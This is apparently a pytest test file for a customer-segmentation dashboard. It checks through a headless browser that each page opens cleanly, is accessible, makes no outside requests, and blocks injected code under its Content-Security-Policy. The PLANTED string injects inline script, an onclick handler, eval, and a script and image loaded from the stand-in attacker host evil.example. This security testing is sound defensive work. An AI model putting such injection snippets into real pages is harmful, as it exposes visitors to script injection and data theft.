"""Every page of the dashboard, over the most awkward runs: nothing breaks, nothing sticks out, nothing calls home."""

from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from support.dashboard_visits import VIEWS, Watch, addresses, sideways, view_of, words
from support.shops import HOSTILE_NEXT, HOSTILE_RUN, LATER, NASTY, SHOPS

from segmentry.dashboard.page_catalog import PAGES

LEVELS = "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(one => Number(one.tagName[1]))"
CHARTS = """() => [...document.querySelectorAll('main svg')].map(one => [one.getAttribute('role'),
  (one.getAttribute('aria-label') ?? '').trim().length > 10])"""
PLANTED = """() => {
  const inline = document.createElement('script'); inline.textContent = 'window.planted = 1';
  const outside = document.createElement('script'); outside.src = 'http://evil.example/steal.js';
  const image = document.createElement('img'); image.src = 'http://evil.example/pixel.png';
  const wired = document.createElement('button'); wired.setAttribute('onclick', 'window.planted = 2');
  const styled = document.createElement('p'); styled.setAttribute('style', 'position: fixed');
  document.body.append(inline, outside, image, wired, styled);
  wired.click();
  const evaluated = document.createElement('script'); evaluated.textContent = 'eval("window.planted = 3")';
  document.body.append(evaluated);
  return [window.planted ?? null, getComputedStyle(styled).position];
}"""


PATHS = tuple(one.path for one in PAGES)
OF_LATER = ("/", "/changes", *VIEWS)
CHANGES_OF_HOSTILE = f"/changes?{urlencode({'before': HOSTILE_RUN})}"
OPENED = (
    *((run, path) for run in SHOPS if run not in {LATER, HOSTILE_NEXT} for path in PATHS),
    *((LATER, path) for path in OF_LATER),
    (HOSTILE_NEXT, CHANGES_OF_HOSTILE),
)
"""Every page of every run; of the later run its changes and what visitors do on the pages."""
WORDY = ("/", "/customers", "/customer/{id:path}", "/compare", "/segment/{number}", "/strategies")
"""Pages that hold more than a few names."""
EXAMINED = (
    *(("first", path) for path in PATHS),
    *(("long", path) for path in WORDY),
    *(("twelve", path) for path in ("/", "/map", "/compare")),
    *((LATER, path) for path in OF_LATER),
    (HOSTILE_NEXT, CHANGES_OF_HOSTILE),
)


@pytest.fixture(scope="module")
def where(shops: Path) -> dict[str, dict[str, str]]:
    """The address of every page and view, by run."""
    views = dict.fromkeys(SHOPS, ()) | {LATER: VIEWS, HOSTILE_NEXT: (CHANGES_OF_HOSTILE,)}
    return {
        run: addresses(shops, run) | {view: view_of(view, run) for view in seen}
        for run, seen in views.items()
    }


@pytest.mark.parametrize(("run", "path"), OPENED)
def test_a_page_opens_fits_and_asks_nobody_else(
    chromium: Any, served: str, where: dict[str, dict[str, str]], run: str, path: str
) -> None:
    """At 1280 and 360 pixels, light and dark: no error, no sideways scroll, no request to anybody else."""
    page = chromium.new_context().new_page()
    watch = Watch.of(page)
    page.goto(served + where[run][path])
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    assert sideways(page) == []
    levels = page.evaluate(LEVELS)
    assert (levels[0], levels.count(1)) == (1, 1)
    assert all(level <= before + 1 for before, level in pairwise(levels))
    assert all(found == ["img", True] for found in page.evaluate(CHARTS))
    assert (watch.said, watch.refused, watch.outside(served)) == ([], [], [])
    page.context.close()


@pytest.mark.parametrize("run", SHOPS)
def test_a_page_says_the_same_without_scripts(
    chromium: Any, served: str, where: dict[str, dict[str, str]], run: str
) -> None:
    with_scripts = chromium.new_context().new_page()
    without = chromium.new_context(java_script_enabled=False).new_page()
    watch = Watch.of(without)
    for path, address in where[run].items():
        if run == LATER and path not in OF_LATER:
            continue
        for page in (with_scripts, without):
            page.goto(served + address)
        assert set(words(without).split()) <= set(words(with_scripts).split()), address
        assert without.inner_text("h1")
    assert (watch.said, watch.refused, watch.outside(served)) == ([], [], [])
    with_scripts.context.close()
    without.context.close()


@pytest.mark.parametrize(("run", "path"), EXAMINED)
def test_axe_finds_no_fault(
    examined: Any, served: str, where: dict[str, dict[str, str]], run: str, path: str
) -> None:
    assert examined(served + where[run][path]) == []


def test_axe_finds_no_fault_in_the_report(examined: Any, shops: Path) -> None:
    assert examined((shops / "twelve" / "report.html").as_uri()) == []


@pytest.mark.parametrize("address", ["/report?run=first", f"/report?run={HOSTILE_RUN}"])
def test_the_report_is_shown_by_the_dashboard_and_asks_nobody(
    chromium: Any, served: str, address: str
) -> None:
    page = chromium.new_context().new_page()
    watch = Watch.of(page)
    page.goto(served + address)
    assert page.inner_text("h1")
    assert (watch.said, watch.refused, watch.outside(served)) == ([], [], [])
    page.context.close()


@pytest.mark.parametrize(
    ("run", "path"), [*((HOSTILE_RUN, path) for path in PATHS), (HOSTILE_NEXT, CHANGES_OF_HOSTILE)]
)
def test_hostile_words_are_only_words(
    chromium: Any, served: str, where: dict[str, dict[str, str]], run: str, path: str
) -> None:
    page = chromium.new_context().new_page()
    watch = Watch.of(page)
    page.goto(served + where[run][path])
    foreign = "main script, main img, [onload], [onerror], main style, main iframe, main object, main base"
    assert page.evaluate(f"document.querySelectorAll({foreign!r}).length") == 0
    targets = page.evaluate(
        "[...document.querySelectorAll('[href], [src], [action]')].map(one => one.href ?? one.src)"
    )
    assert [one for one in targets if isinstance(one, str) and not one.startswith((served, "data:"))] == []
    shown = page.content()
    assert not any(word in shown for word in NASTY[:2])
    assert "49" not in page.inner_text(".runs")
    assert (watch.said, watch.outside(served)) == ([], [])
    page.context.close()


@pytest.mark.parametrize("path", PATHS)
def test_a_script_that_somebody_plants_does_not_run(
    chromium: Any, served: str, where: dict[str, dict[str, str]], path: str
) -> None:
    """Without the policy all of it would run, which the last lines show."""
    page = chromium.new_context().new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    answer = page.goto(served + where["first"][path])
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'")
    assert "unsafe" not in policy
    assert page.evaluate(PLANTED) == [None, "static"]
    assert [one for one in asked if not one.startswith(served)] == []
    page.context.close()


def test_the_planted_script_would_run_without_the_policy(chromium: Any, served: str) -> None:
    page = chromium.new_context(bypass_csp=True).new_page()
    page.route("http://evil.example/**", lambda route: route.abort())
    page.goto(f"{served}/about")
    assert page.evaluate(PLANTED) == [3, "fixed"]
    page.context.close()
